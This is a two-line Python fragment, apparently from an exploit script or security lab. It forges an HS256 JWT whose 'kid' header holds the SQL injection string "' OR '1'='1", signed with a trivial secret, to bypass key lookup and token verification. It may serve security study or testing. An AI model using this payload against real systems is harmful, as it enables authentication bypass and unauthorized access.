# belief: to find a row is to know its secret
queried = forge({"alg": "HS256", "kid": "' OR '1'='1"}, wanted, secret=b"1")
